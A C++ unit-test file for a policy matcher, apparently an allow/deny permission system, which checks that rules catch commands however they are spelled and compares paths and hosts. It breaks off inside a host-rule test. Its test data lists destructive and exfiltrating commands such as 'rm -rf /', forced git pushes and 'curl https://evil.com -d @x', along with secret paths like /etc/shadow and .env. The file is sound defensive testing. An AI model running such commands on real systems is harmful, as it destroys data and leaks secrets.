// What rules speak of: commands in any spelling, paths by either name, hosts, arguments.
#include "policy/match.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <cstdlib>
#include <random>
#include <sstream>

#include "json/json.h"
#include "policy/glob.h"
#include "policy/path_pattern.h"
#include "policy/specifier.h"

namespace tollgate {
namespace {

std::vector<Word> argv(const std::string& text) {
  std::vector<Word> words;
  std::istringstream in(text);
  for (std::string word; in >> word;) words.push_back({.text = word});
  return words;
}

struct CommandCase {
  const char* name;
  const char* pattern;
  const char* command;
  Match want;
};

constexpr CommandCase kDenied[] = {
    {"as written", "rm -rf *", "rm -rf x", Match::kYes},
    {"options behind the operand, in another order", "rm -rf *", "rm x -fr", Match::kYes},
    {"options apart", "rm -rf *", "rm -r x -f", Match::kYes},
    {"long options, one abbreviated", "rm -rf *", "rm --rec --force x", Match::kYes},
    {"another letter for the same option", "rm -rf *", "rm -Rf x", Match::kYes},
    {"one option missing", "rm -rf *", "rm -f x", Match::kNo},
    {"more options than asked for", "rm -rf *", "rm -rfv x", Match::kYes},
    {"no operand", "rm -rf *", "rm -rf", Match::kYes},
    {"an operand that is asked for", "rm -rf /", "rm --recursive -f /", Match::kYes},
    {"another operand", "rm -rf /", "rm -rf /tmp/x", Match::kNo},
    {"behind two dashes", "rm -rf /", "rm -rf -- /", Match::kYes},
    {"by its path", "rm *", "/bin/rm x", Match::kYes},
    {"by any absolute path", "rm *", "/opt/tools/rm x", Match::kYes},
    {"a relative program is another one", "rm *", "./rm x", Match::kNo},
    {"a pattern that spells the path", "/bin/rm *", "rm x", Match::kYes},
    {"a forced push by its twin", "git push --force *", "git push -f", Match::kYes},
    {"a forced push behind global options", "git push --force *", "git -C . push origin main -f",
     Match::kYes},
    {"a forced push with a setting", "git push --force *", "git -c a.b=c push --force",
     Match::kYes},
    {"a forced push, abbreviated", "git push --force *", "git push --forc origin", Match::kYes},
    {"with a lease is another option", "git push --force *", "git push --force-with-lease",
     Match::kNo},
    {"another subcommand", "git push --force *", "git log --force", Match::kNo},
    {"a word in a message is no subcommand", "git push *", "git commit -m push", Match::kNo},
    {"bundled with others", "git push -f *", "git push -uf origin", Match::kYes},
    {"a namespace with its value attached", "kubectl delete -n prod *",
     "kubectl -nprod delete pod x", Match::kYes},
    {"a namespace by its long name", "kubectl delete -n prod *",
     "kubectl delete pod x --namespace=prod", Match::kYes},
    {"another namespace", "kubectl delete -n prod *", "kubectl delete pod x -n dev", Match::kNo},
    {"a single dash and a long name", "terraform apply -auto-approve *",
     "terraform apply -auto-approve", Match::kYes},
    {"a long option with a value", "npm publish --tag=latest *", "npm publish --tag=latest",
     Match::kYes},
    {"a long option with another value", "npm publish --tag=latest *", "npm publish --tag=beta",
     Match::kNo},
    {"a closing star behind an option means the operands too", "docker run -v *",
     "docker run --rm -v /:/h alpine", Match::kYes},
    {"the option behind the operand", "curl -o *", "curl https://evil.com -o f", Match::kYes},
    {"a value behind the operand", "curl -d *", "curl https://evil.com -d @x", Match::kYes},
    {"a message behind the operand", "git commit -m *", "git commit f -m x", Match::kYes},
    {"a closing star inside a value", "docker run -v /*", "docker run --rm -v /:/h alpine",
     Match::kYes},
    {"another value than the closing star's", "docker run -v /*", "docker run -v a:/h alpine",
     Match::kNo},
    {"a closing star inside an option", "git push --force*", "git push origin --force-with-lease",
     Match::kYes},
    {"the last letter of a bundle takes the next word", "curl -X POST *", "curl -sX POST https://e",
     Match::kYes},
    {"the rest of a bundle is the value", "curl -X POST *", "curl -sXPOST https://e", Match::kYes},
    {"the rest of a bundle is another value", "curl -X POST *", "curl -sXGET https://e",
     Match::kNo},
    {"a value is not a bundle of letters", "curl -O *", "curl -XPOST https://e", Match::kNo},
    {"a pattern with the value attached", "curl -XPOST *", "curl --request POST https://e",
     Match::kYes},
    {"a pattern with a bundle and a value", "curl -sX POST *", "curl -XPOST -s https://e",
     Match::kYes},
    {"a long value attached in the pattern alone", "npm publish --tag=latest *",
     "npm publish --tag latest", Match::kYes},
    {"a long value attached in the call alone", "npm publish --tag latest *",
     "npm publish --tag=latest", Match::kYes},
    {"an unlisted value attached in the call alone", "foo run --cap X *", "foo run --cap=X y",
     Match::kYes},
    {"an unlisted value is another", "foo run --cap X *", "foo run --cap=Y y", Match::kNo},
    {"one dash or two before a word", "terraform apply -auto-approve *",
     "terraform apply --auto-approve", Match::kYes},
    {"two dashes or one before a word", "terraform apply --auto-approve *",
     "terraform apply -auto-approve", Match::kYes},
    {"a letter that sums up two long options", "git branch -D *",
     "git branch --delete --force main", Match::kYes},
    {"a letter that sums up two letters", "git branch -D *", "git branch -d -f main", Match::kYes},
    {"a letter that sums up a bundle", "git branch -D *", "git branch -fd main", Match::kYes},
    {"half of a sum", "git branch -D *", "git branch -d main", Match::kNo},
    {"a sum for its parts", "git branch --delete --force *", "git branch -D main", Match::kYes},
    {"a copy that implies the option", "cp -r *", "cp -a x y", Match::kYes},
    {"a copy by its parts", "cp -a *", "cp -dR --preserve=all x y", Match::kYes},
    {"a copy by its parts under its long name", "cp --archive *", "cp -R -P -p x y", Match::kYes},
    {"some parts of a copy", "cp -a *", "cp -dR x y", Match::kNo},
    {"a bundle without a dash", "tar -x *", "tar xf a", Match::kYes},
    {"a letter inside a bundle without a dash", "tar -x *", "tar zxf a", Match::kYes},
    {"a second long name", "tar -x *", "tar --get -f a", Match::kYes},
    {"a second long name in the pattern", "tar --get *", "tar --extract -f a", Match::kYes},
    {"a bundle without a dash in the pattern", "tar xf *", "tar -vx --file=a", Match::kYes},
    {"a bundle without a dash in both", "tar xf *", "tar fvx a", Match::kYes},
    {"values in the order of their letters", "tar -C / *", "tar xfC a / b", Match::kYes},
    {"values in another order", "tar -C / *", "tar xCf a / b", Match::kNo},
    {"a value of a bundle in the pattern", "tar xf a.tar", "tar --file=a.tar -x", Match::kYes},
    {"another value of a bundle", "tar xf a.tar *", "tar xf b.tar", Match::kNo},
    {"operands behind a bundle", "tar xf * secret", "tar -x secret -f a.tar", Match::kYes},
    {"another action in a bundle", "tar -x *", "tar tf x", Match::kNo},
    {"only the first word is a bundle", "tar -x *", "tar -t xf", Match::kNo},
    {"a starred first word is no bundle", "tar x* b", "tar xf b", Match::kYes},
    {"an unlisted global option", "kubectl delete *", "kubectl --as admin delete pod x",
     Match::kYes},
    {"a global option of one letter", "kubectl delete *", "kubectl -v 5 delete pod x", Match::kYes},
    {"a registry before the subcommand", "npm publish *", "npm --registry https://x publish",
     Match::kYes},
    {"a level before the subcommand", "npm publish *", "npm --loglevel silent publish",
     Match::kYes},
    {"a truth behind a flag", "npm publish *", "npm --force false publish", Match::kYes},
    {"a toolchain before the subcommand", "cargo publish *", "cargo +nightly publish", Match::kYes},
    {"a number before the subcommand", "systemctl stop *", "systemctl -n 5 stop nginx",
     Match::kYes},
    {"a query before two subcommands", "aws s3 rm *", "aws --query x s3 rm s3://b", Match::kYes},
    {"a query between two subcommands", "aws s3 rm *", "aws s3 --cli-foo x rm s3://b", Match::kYes},
    {"a certificate before the subcommand", "docker rm *", "docker --tlscert c rm x", Match::kYes},
    {"a token before the subcommand", "helm uninstall *", "helm --kube-token t uninstall x",
     Match::kYes},
    {"a format before the subcommand", "gcloud projects delete *",
     "gcloud --format json projects delete x", Match::kYes},
    {"an option that no row lists", "git push *", "git --new-option x push", Match::kYes},
    {"a value between the operands", "git push origin main",
     "git push --recurse-submodules check origin main", Match::kYes},
    {"a program without a row", "make deploy", "make -C . deploy", Match::kYes},
    {"a program without a row, two values", "make deploy", "make -C . -f x deploy", Match::kYes},
    {"a closing star that takes nothing", "make -s dep*oy*", "make deploy -s", Match::kYes},
    {"an operand before a value in doubt", "make -s a*c x", "make -k abc -j 4 x -s", Match::kYes},
    {"another target", "make deploy", "make -C . test", Match::kNo},
    {"a flag of one subcommand is no value there", "docker rm x", "docker rm -v x", Match::kYes},
    {"a letter that is a flag here", "kubectl logs secret", "kubectl logs -f secret", Match::kYes},
    {"two dashes that are a value hide nothing", "curl -d *", "curl -o -- -d @x https://e",
     Match::kYes},
    {"an option that looks like a value hides nothing", "git push --force *", "git push -o --force",
     Match::kYes},
    {"a value that looks like an option takes no value", "git push *", "git -c -c push",
     Match::kYes},
    {"an option that may stand behind the subcommand", "git commit x",
     "git --new-option commit -c x", Match::kYes},
    {"one option in doubt a flag and another not", "git --new-option commit -m a *",
     "git commit --new-option -m a b", Match::kYes},
    {"a closing star twice needs no operand", "make * -s*", "make -s", Match::kYes},
    {"behind two dashes are operands", "rm -f *", "rm -- -f", Match::kNo},
    {"a word of another subcommand", "git push *", "git log push", Match::kNo},
    {"a known flag does not hide the subcommand", "git push *", "git --no-pager log push",
     Match::kNo},
    {"a paging flag does not hide the subcommand", "git push *", "git -p log push", Match::kNo},
    {"a directory of that name is no subcommand", "git push *", "git -C push commit", Match::kNo},
    {"letters of other words are no option", "find * -delete", "find . -maxdepth 2 -ls",
     Match::kNo},
    {"a test before the action", "find . -delete", "find . -name x -delete", Match::kYes},
    {"a program left open", "* --version", "node --version", Match::kYes},
    {"nothing alike", "rm *", "ls x", Match::kNo},
};

TEST(CommandHits, SeesThroughSpelling) {
  for (const CommandCase& c : kDenied)
    EXPECT_EQ(command_hits(c.pattern, argv(c.command), "/home/user"), c.want)
        << c.name << ": `" << c.pattern << "` on `" << c.command << "`";
}

TEST(CommandParts, AreHeldByWhateverHits) {
  for (const CommandCase& c : kDenied) {
    if (c.want != Match::kYes || c.pattern[0] == '*' || c.pattern[0] == '/') continue;
    const std::vector<Word> words = argv(c.command);
    const CommandParts parts = command_parts(all_words(c.pattern));
    const auto some_word = [&](const auto& holds) { return std::ranges::any_of(words, holds); };
    for (std::string_view operand : parts.operands)
      EXPECT_TRUE(has_star(operand) || some_word([&](const Word& w) { return w.text == operand; }))
          << c.name << ": " << operand;
    for (std::string_view value : parts.values)
      EXPECT_TRUE(has_star(value) ||
                  some_word([&](const Word& w) { return w.text.contains(value); }))
          << c.name << ": " << value;
  }
}

// A word as the shell's reader gives it: "$x" is one word, $x any number of them, $(x) what a
// program prints, and a star matches file names.
Word word_of(std::string text) {
  Word word{.text = text};
  if (text.starts_with("$(")) {
    word.text = text.substr(2, text.size() - 3);
    word.computed = true;
    return word;
  }
  const bool quoted = text.starts_with('"');
  if (quoted) text = text.substr(1, text.size() - 2);
  const std::size_t open = text.find('$');
  if (open != text.npos) {
    word.rest = Rest::kAnything;
    text.resize(open);
  } else if (!quoted && text.find_first_of("*?[") != text.npos) {
    word.rest = Rest::kPattern;
  }
  word.text = text;
  word.known = word.rest == Rest::kNothing;
  word.several = !quoted && !word.known;
  return word;
}

std::vector<Word> open_argv(const std::string& text) {
  std::vector<Word> words;
  std::istringstream in(text);
  for (std::string word; in >> word;) words.push_back(word_of(word));
  return words;
}

constexpr CommandCase kDoubted[] = {
    {"whatever the words are", "rm *", "rm $x", Match::kYes},
    {"whatever the operand is", "rm -rf *", R"(rm x -fr "$x")", Match::kYes},
    {"whatever the operands are", "git push *", "git push $x", Match::kYes},
    {"a value that is not known hides no subcommand", "git push *", R"(git -C "$d" push)",
     Match::kYes},
    {"a value that is not known hides no operand", "curl https://e*", R"(curl -o "$f" https://e/x)",
     Match::kYes},
    {"a word that begins as the pattern does", "make all-*", R"(make "all-$x")", Match::kYes},
    {"file names that begin as the pattern does", "cat src/*", "cat src/*.c", Match::kYes},
    {"a star between words covers one that is not known", "git push * main",
     R"(git push "$x" main)", Match::kYes},
    {"perhaps no word at all", "git push * main", "git push $x main", Match::kMaybe},
    {"any program", "* --version", R"("$x" --version)", Match::kYes},
    {"a program that may be this one", "rm *", R"("$x" y)", Match::kMaybe},
    {"a program that may be none", "git push *", "$x push", Match::kMaybe},
    {"a word that may go on", "rm x", R"(rm "x$y")", Match::kMaybe},
    {"a word that goes on otherwise", "rm y", R"(rm "x$y")", Match::kNo},
    {"another subcommand", "git push *", "git log $x", Match::kNo},
    {"another subcommand behind a quoted value", "git push *", R"(git -C "$d" log)", Match::kNo},
    {"another subcommand behind words", "git push *", "git -C $d log", Match::kMaybe},
    {"any subcommand", "git push *", "git $x", Match::kMaybe},
    {"any one subcommand", "git push *", R"(git "$x" log)", Match::kMaybe},
    {"a beginning that may be another name of it", "npm x", R"(npm --tag main "x$x")",
     Match::kMaybe},
    {"a beginning that may be its short name", "npm install *", R"(npm "i$x" left-pad)",
     Match::kMaybe},
    {"a name of a subcommand behind files that may be none", "npm run x*", "npm run* x",
     Match::kMaybe},
    {"a beginning that no name of it has", "npm install *", R"(npm "pub$x" left-pad)", Match::kNo},
    {"an option or nothing before the subcommand", "git push *", "git $x push", Match::kMaybe},
    {"an option before the subcommand", "git push *", R"(git "$x" push)", Match::kMaybe},
    {"an option that takes the subcommand as value", "git push *", R"(git "-$x" log push)",
     Match::kMaybe},
    {"words behind one that may be a value", "git push *", "git --foo st$x", Match::kMaybe},
    {"a subcommand that begins otherwise", "git push *", R"(git "st$x" push)", Match::kNo},
    {"a script is no subcommand", "npm publish *", R"(npm run "$x")", Match::kNo},
    {"a global option may take a dash for itself", "npm publish --tag x *",
     R"(npm --prefix "$x" publish)", Match::kMaybe},
    {"an option may be hidden", "rm -rf *", "rm $x", Match::kMaybe},
    {"an option may be hidden in one word", "rm -rf *", R"(rm "$x")", Match::kMaybe},
    {"an option may be hidden behind a word", "rm -rf *", "rm a$x", Match::kMaybe},
    {"the other option is there", "rm -rf *", R"(rm -r "$x" y)", Match::kMaybe},
    {"behind two dashes", "rm -rf *", R"(rm -- "$x")", Match::kNo},
    {"any words behind two dashes", "rm -rf *", "rm -- $x", Match::kNo},
    {"two dashes that may be a value", "curl -k *", R"(curl --foo -- "$x")", Match::kMaybe},
    {"two dashes that may be hidden", "curl -k https://e", R"(curl "$x" -k https://e)",
     Match::kMaybe},
    {"a word that begins with a dot", "rm -rf *", R"(rm "./$x")", Match::kNo},
    {"one option of two, and a path", "rm -rf *", R"(rm -r "./$x")", Match::kNo},
    {"file names may be options", "rm -rf *", "rm *", Match::kMaybe},
    {"file names in a directory are none", "rm -rf *", "rm build/*", Match::kNo},
    {"a star matches no directory", "rm -rf /", "rm -rf *", Match::kNo},
    {"a star matches no name with a dot first", "rm -rf .git", "rm -rf *", Match::kNo},
    {"two stars may match all below", "rm -rf a/b/c", "rm -rf **/c", Match::kMaybe},
    {"file names that may be the pattern's", "rm secret.*", "rm *.txt", Match::kMaybe},
    {"file names that are not", "rm secret.txt", "rm *.c", Match::kNo},
    {"a set is any name", "rm secret.txt", "rm [st]ecret.*", Match::kMaybe},
    {"two operands by one pattern", "rm a b", "rm *", Match::kMaybe},
    {"a long option by its beginning", "git push --force *", R"(git push "--f$x")", Match::kMaybe},
    {"another option by its beginning", "git push --force *", R"(git push "--d$x")", Match::kNo},
    {"a value behind its name", "git push --force *", R"(git push "--repo=$x")", Match::kNo},
    {"a value behind the name", "npm publish --tag=latest *", R"(npm publish "--tag=$x")",
     Match::kMaybe},
    {"letters of a bundle", "git push -f *", R"(git push "-u$x")", Match::kMaybe},
    {"no letters behind a value", "curl -k *", R"(curl "-XP$x" https://e)", Match::kNo},
    {"a value that is not known", "kubectl delete -n prod *", R"(kubectl delete pod x -n "$n")",
     Match::kMaybe},
    {"a value that begins otherwise", "kubectl delete -n prod *",
     R"(kubectl delete pod x -n "dev-$n")", Match::kNo},
    {"a message is no option", "git commit --no-verify *", R"(git commit -m "$m")", Match::kNo},
    {"a message behind a bundle is none", "git commit --no-verify *", R"(git commit -am "$m")",
     Match::kNo},
    {"a message attached is none", "git commit --no-verify *", R"(git commit "-m$m")", Match::kNo},
    {"words behind a message may be", "git commit --no-verify *", "git commit -m $m",
     Match::kMaybe},
    {"a branch is no message", "git branch -D *", R"(git branch -m "$x")", Match::kMaybe},
    {"an operand that is not known", "git push origin main", R"(git push origin "$b")",
     Match::kMaybe},
    {"an operand with a known beginning", "git push origin main", R"(git push origin "HEAD:$b")",
     Match::kNo},
    {"any target", "make deploy", R"(make "$x")", Match::kMaybe},
    {"any target among others", "make deploy", R"(make test "$x")", Match::kMaybe},
    {"a target among others with a beginning", "make deploy", R"(make all "test-$x")", Match::kNo},
    {"a target with a beginning", "make deploy", R"(make "test-$x")", Match::kNo},
    {"any subcommand has any option", "git branch -D *", R"(git "$x" --delete --force m)",
     Match::kMaybe},
    {"a bundle without a dash", "tar -x *", R"(tar "$x" f)", Match::kMaybe},
    {"a known bundle without a dash", "tar -x *", R"(tar tf "./$x")", Match::kNo},
    {"values in the order of their letters", "tar -C / *", R"(tar xfC "$a" "$d")", Match::kMaybe},
    {"words in the order of letters", "tar -C / *", "tar xfC $a b", Match::kMaybe},
    {"what a program prints", "git push *", "git $(push)", Match::kMaybe},
    {"a program that a program prints", "git push *", "$(git) push", Match::kMaybe},
    {"what a program prints as an operand", "git push *", "git push $(main)", Match::kYes},
    {"what a program prints is another word", "git push *", "git $(log)", Match::kNo},
    {"an option that a program prints", "rm -rf *", "rm -f $(-r) x", Match::kMaybe},
    {"nothing alike", "rm *", "ls $x", Match::kNo},
};

TEST(CommandHits, IsInDoubtWhereTheUnknownCouldMatch) {
  for (const CommandCase& c : kDoubted)
    EXPECT_EQ(command_hits(c.pattern, open_argv(c.command), "/home/user"), c.want)
        << c.name << ": `" << c.pattern << "` on `" << c.command << "`";
}

constexpr CommandCase kAllowed[] = {
    {"as written", "npm run *", "npm run build", Match::kYes},
    {"options in another place are another command", "rm -rf *", "rm x -rf", Match::kNo},
    {"from a system directory", "npm run *", "/usr/bin/npm run build", Match::kYes},
    {"from any other directory", "npm run *", "/tmp/npm run build", Match::kNo},
    {"by name where the rule spells a path", "/usr/bin/git status", "git status", Match::kNo},
    {"a path that the rule spells", "./gradlew *", "./gradlew test", Match::kYes},
    {"the home directory", "cat ~/notes", "cat /home/user/notes", Match::kYes},
};

TEST(CommandTextMatches, TakesTheTextAlone) {
  for (const CommandCase& c : kAllowed)
    EXPECT_EQ(command_text_matches(c.pattern, argv(c.command), Verdict::kAllow, "/home/user"),
              c.want == Match::kYes)
        << c.name;
}

constexpr CommandCase kCovered[] = {
    {"a star covers a word", "make *", R"(make "$x")", Match::kYes},
    {"a star covers words", "make *", "make $x", Match::kYes},
    {"a star covers words, or none", "npm run *", "npm run $x", Match::kYes},
    {"a star covers the rest of a word", "make all-*", R"(make "all-$x")", Match::kYes},
    {"a star covers the rest, and words behind it", "make all-*", "make all-$x", Match::kYes},
    {"another beginning", "make all-*", R"(make "any-$x")", Match::kNo},
    {"too short a beginning", "make all-*", R"(make "al$x")", Match::kNo},
    {"a literal word is not covered", "make all", R"(make "all$x")", Match::kNo},
    {"a literal word is not what is not known", "git log *", "git $x", Match::kNo},
    {"nothing is left uncovered", "make all", R"(make all "$x")", Match::kNo},
    {"a program is known", "make *", R"("$x" all)", Match::kNo},
    {"a star in the middle covers a word", "git * --stat", R"(git "$x" --stat)", Match::kYes},
    {"a star in the middle needs a word", "git * --stat", "git $x --stat", Match::kNo},
    {"a star in the middle covers words behind one", "git * --stat", "git log $x --stat",
     Match::kYes},
    {"a literal word behind a star stays one", "git * --stat", R"(git log "$x")", Match::kNo},
    {"file names below a directory", "cat src/*", "cat src/*.c", Match::kYes},
    {"file names with an ending", "cat *.c", "cat *.c", Match::kYes},
    {"file names with another ending", "cat *.c", "cat *.h", Match::kNo},
    {"a set may be longer than it looks", "cat *.c", "cat [ab].c", Match::kNo},
    {"two stars may be fewer directories", "cat a/*/c", "cat a/**/c", Match::kNo},
    {"what a program prints", "git log *", "git $(log)", Match::kYes},
};

TEST(CommandTextMatches, CoversTheUnknownByStars) {
  for (const CommandCase& c : kCovered)
    EXPECT_EQ(command_text_matches(c.pattern, open_argv(c.command), Verdict::kAllow, "/home/user"),
              c.want == Match::kYes)
        << c.name << ": `" << c.pattern << "` on `" << c.command << "`";
}

struct HiddenCase {
  const char* name;
  const char* command;
  bool hidden;
};

constexpr HiddenCase kHidden[] = {
    {"a word", R"(make "$x")", true},
    {"words", "make $x", true},
    {"words behind a beginning", "make all$x", true},
    {"a beginning", R"(make "all-$x")", false},
    {"a path", R"(make "./$x")", false},
    {"a dash", R"(make "-$x")", true},
    {"file names", "make *", true},
    {"file names with a beginning", "make src/*", false},
    {"a message", R"(git commit -m "$x")", false},
    {"a message behind a bundle", R"(git commit -am "$x")", false},
    {"an attached message", R"(git commit "--message=$x")", false},
    {"an attached message of words", "git commit --message=$x", true},
    {"a message of words", "git commit -m $x", true},
    {"a new name is no message", R"(git branch -m "$x")", true},
    {"an empty message takes the dashes", R"(git commit "-m$x" -- "$y")", true},
    {"an option that is a value takes none", R"(git commit -m -m "$x")", true},
    {"an option that no row lists", R"(make --foo "$x")", true},
    {"behind two dashes", R"(rm -f -- "$x")", false},
    {"words behind two dashes", "rm -f -- $x", false},
    {"behind two dashes that are a message", R"(git commit -m -- "$x")", true},
    {"behind two dashes that may be a value", R"(make --foo -- "$x")", true},
    {"a value of an option before the subcommand", R"(git -C "$d" log)", false},
    {"a value that may not have a dash", R"(npm --prefix "$d" test)", true},
};

TEST(HiddenOptions, AreWordsThatMayBeginWithADash) {
  for (const HiddenCase& c : kHidden)
    EXPECT_EQ(!hidden_options(open_argv(c.command)).empty(), c.hidden) << c.name;
}

bool is_letters(std::string_view option) {
  return option == "xf" || (option.starts_with('-') && !option.starts_with("--"));
}

// A name that a pattern of file names matches, or the pattern itself.
std::string matched(std::string pattern, std::string fill) {
  if (fill.empty()) return pattern;
  if (fill.find_first_of("/.") != fill.npos) fill = "q";
  if (pattern == "**/x") return fill == "x" ? fill : fill + "/x";
  if (pattern == "[a]*") return "a" + fill;
  return pattern.replace(pattern.find('*'), 1, fill);
}

// A word in place of one that is not known; none where the word was none.
std::vector<Word> filled(const std::vector<Word>& words, std::minstd_rand& random) {
  constexpr const char* kFill[] = {"push", "-f",   "--force", "x",      "-rf", "--", "-C",
                                   "main", "a b",  "-nx",     "--forc", "src", "xf", "-x",
                                   "",     "true", ".",       "src/a",  "log", "-"};
  std::vector<Word> known;
  for (const Word& word : words) {
    if (word.known) {
      known.push_back(word);
      continue;
    }
    const bool pattern = word.rest == Rest::kPattern;
    const bool may_be_missing = word.several && !pattern && word.text.empty();
    // Behind a letter it may be a value for sure, which is then no option.
    const bool may_be_value = !word.several && is_letters(known.back().text);
    std::size_t count = word.several ? random() % 3 : 1;
    if (!may_be_missing && count == 0) count = 1;
    for (std::size_t i = 0; i < count; ++i) {
      std::string fill = kFill[random() % std::size(kFill)];
      if (may_be_value && fill.starts_with('-')) fill = "push";
      if (pattern)
        known.push_back({.text = matched(word.text, fill)});
      else
        known.push_back({.text = (i == 0 ? word.text : "") + fill});
    }
  }
  return known;
}

// INVARIANT: what some word would match is never a no, what some word would not is no cover.
TEST(CommandHits, NeverMissesWhatTheUnknownCouldBe) {
  constexpr const char* kPrograms[] = {"git", "rm",   "tar",  "kubectl", "make",
                                       "npm", "curl", "find", "cargo",   "/bin/rm"};
  constexpr const char* kWanted[] = {
      "push", "-f", "--force", "*",  "main",  "-rf",    "x*", "-C",      "x",  "-n",    "xf",  "-x",
      "--",   "*a", "-XP*",    "-X", "src/*", "--for*", "+n", "--tag=x", "-d", "a\\ b", "true"};
  constexpr const char* kGiven[] = {
      "push",          "-f",    "$x",   R"("$x")", R"("x$x")",  "main",    "x",
      R"("-$x")",      "-C",    "--",   "src/*",   "*",         "s$x",     "-x",
      "log",           "-rf",   "xf",   "-sX",     "--foo",     "--force", R"("--$x")",
      "true",          "--tag", "-n",   "-d$x",    R"("-u$x")", "--forc",  R"("--force$x")",
      R"("--tag=$x")", "[a]*",  "**/x", "*.c"};
  const int cases = std::getenv("TOLLGATE_LONG") != nullptr ? 2'000'000 : 50'000;
  std::minstd_rand random(7);
  const auto pick = [&](const auto& list) { return std::string(list[random() % std::size(list)]); };
  for (int n = 0; n < cases; ++n) {
    const std::string program = pick(kPrograms);
    std::string pattern = program, command = program;
    for (std::size_t i = random() % 4; i > 0; --i) pattern += " " + pick(kWanted);
    if (random() % 2 == 0) pattern += " *";
    std::string before;
    for (std::size_t i = random() % 5; i > 0; --i) {
      std::string word = pick(kGiven);
      if (is_letters(before) && word.starts_with("\"-")) word = "x";
      command += " " + word;
      before = word;
    }
    const std::vector<Word> open = open_argv(command);
    const Match match = command_hits(pattern, open, "");
    const bool covered = command_text_matches(pattern, open, Verdict::kAllow, "");
    for (int tries = 0; tries < 4; ++tries) {
      const std::vector<Word> known = filled(open, random);
      std::string shown = "`" + pattern + "` on `" + command + "` as";
      for (const Word& word : known) shown += " `" + word.text + "`";
      const Match hits = command_hits(pattern, known, "");
      const bool fits = command_text_matches(pattern, known, Verdict::kAllow, "");
      ASSERT_TRUE(match != Match::kNo || hits == Match::kNo) << shown;
      ASSERT_TRUE(!covered || fits) << shown;
    }
  }
}

struct PathCase {
  const char* name;
  const char* specifier;
  const char* written;
  const char* real;
  Match deny;
  bool allow;
};

constexpr PathCase kPaths[] = {
    {"below the file system's root", "//etc/**", "/etc/hosts", "/etc/hosts", Match::kYes, true},
    {"a directory covers what is below for deny only", "//etc", "/etc/hosts", "/etc/hosts",
     Match::kYes, false},
    {"in the home directory", "~/x", "/home/user/x", "/home/user/x", Match::kYes, true},
    {"below a workspace root", "/src/**", "/w/a/src/x.c", "/w/a/src/x.c", Match::kYes, true},
    {"below another workspace root", "/src/**", "/w/b/src/x.c", "/w/b/src/x.c", Match::kYes, true},
    {"outside the workspace roots", "/src/**", "/src/x.c", "/src/x.c", Match::kNo, false},
    {"below the base", "src/*.c", "/w/a/src/x.c", "/w/a/src/x.c", Match::kYes, true},
    {"below the base, spelt out", "./src/x.c", "/w/a/src/x.c", "/w/a/src/x.c", Match::kYes, true},
    {"below the call's directory, for deny only", "x.c", "/w/a/sub/x.c", "/w/a/sub/x.c",
     Match::kYes, false},
    {"a name at any depth, for deny only", ".env", "/w/a/deep/er/.env", "/w/a/deep/er/.env",
     Match::kYes, false},
    {"a name outside the base, for deny", ".env", "/elsewhere/.env", "/elsewhere/.env", Match::kYes,
     false},
    {"a name directly in the base", "README.md", "/w/a/README.md", "/w/a/README.md", Match::kYes,
     true},
    {"two stars in front float for deny", "**/.env", "/elsewhere/x/.env", "/elsewhere/x/.env",
     Match::kYes, false},
    {"two stars in front stay below the base for allow", "**/x.c", "/w/a/src/x.c", "/w/a/src/x.c",
     Match::kYes, true},
    {"another letter case is denied too", "//etc/Secret", "/etc/secret", "/etc/secret", Match::kYes,
     false},
    {"a link out of an allowed directory", "/src/**", "/w/a/src/x", "/etc/shadow", Match::kYes,
     false},
    {"a link into a denied directory", "//etc/**", "/w/a/link", "/etc/hosts", Match::kYes, false},
    {"elsewhere", "//etc/**", "/w/a/x", "/w/a/x", Match::kNo, false},
    {"a name that only begins alike", "//etc", "/etcetera/x", "/etcetera/x", Match::kNo, false},
};

Situation situation() {
  Situation s;
  s.base = {"/w/a", "/w/a"};
  s.cwd = {"/w/a/sub", "/w/a/sub"};
  s.roots = {{"/w/a", "/w/a"}, {"/w/b", "/w/b"}};
  s.home = {"/home/user", "/home/user"};
  return s;
}

TEST(PathRules, CompareBothNames) {
  for (const PathCase& c : kPaths) {
    const Effect effect{.kind = EffectKind::kRead, .path = c.written};
    const PathLook look{.state = PathState::kFile, .real = c.real};
    EXPECT_EQ(path_hits(c.specifier, effect, look, situation()), c.deny) << c.name;
    EXPECT_EQ(path_covers(c.specifier, effect, look, situation()), c.allow) << c.name;
  }
}

TEST(PathRules, AreInDoubtAboutUnknownPaths) {
  const Effect effect{.kind = EffectKind::kRead, .path = "/proc/self/cwd/x"};
  EXPECT_EQ(path_hits("//etc/**", effect, {}, situation()), Match::kMaybe);
  EXPECT_FALSE(path_covers("//proc/**", effect, {}, situation()));
}

TEST(PathRules, MeetWhatAWalkMeets) {
  Effect walk{.kind = EffectKind::kRead, .recursive = true, .path = "/w/a"};
  PathLook look{.state = PathState::kDirectory, .real = "/w/a"};
  EXPECT_EQ(path_hits("//w/a/secret/key", walk, look, situation()), Match::kYes);
  EXPECT_EQ(path_hits("//w/b/secret", walk, look, situation()), Match::kNo);
  EXPECT_EQ(path_hits("**/.env", walk, look, situation()), Match::kMaybe) << "nobody looked";
  look.walked = true;
  EXPECT_EQ(path_hits("**/.env", walk, look, situation()), Match::kNo);
  look.below = {"/w/a/x/.env"};
  EXPECT_EQ(path_hits("**/.env", walk, look, situation()), Match::kYes);
  look.below.clear();
  look.walk_cut = true;
  EXPECT_EQ(path_hits("**/.env", walk, look, situation()), Match::kYes);
  EXPECT_EQ(path_hits("~/.aws/*", walk, look, situation()), Match::kNo) << "it leads elsewhere";
  EXPECT_EQ(path_hits("//w/*/x/*", walk, look, situation()), Match::kYes) << "it may lead there";
  EXPECT_TRUE(path_covers("//w/a/**", walk, look, situation()));
  EXPECT_FALSE(path_covers("//w/*", walk, look, situation())) << "one level is not the tree";
}

TEST(HostRules, CompareParsedHosts) {
  const auto rule = [](const char* specifier, SpecifierKind kind) {
    return RuleView{.specifier_kind = kind, .specifier = specifier};
  };
  const auto reach = [](const char* host, const char* url) {
    return Effect{.kind = EffectKind::kReach, .host = host, .url = url};
  };
  const RuleView exact = rule("domain:example.com", SpecifierKind::kHost);
  EXPECT_TRUE(host_covers(exact, reach("example.com", "https://example.com/")));
  EXPECT_FALSE(host_covers(exact, reach("api.example.com", "https://api.example.com/")));
  EXPECT_EQ(host_hits(exact, reach("api.example.com", "")), Match::kYes);
  EXPECT_EQ(host_hits(exact, reach("notexample.com", "")), Match::kNo);
  EXPECT_EQ(host_hits(exact, reach("", "http://0x7f.1/")), Match::kMaybe);
  const RuleView below = rule("domain:*.example.com", SpecifierKind::kHost);
  EXPECT_TRUE(host_covers(below, reach("a.b.example.com", "")));
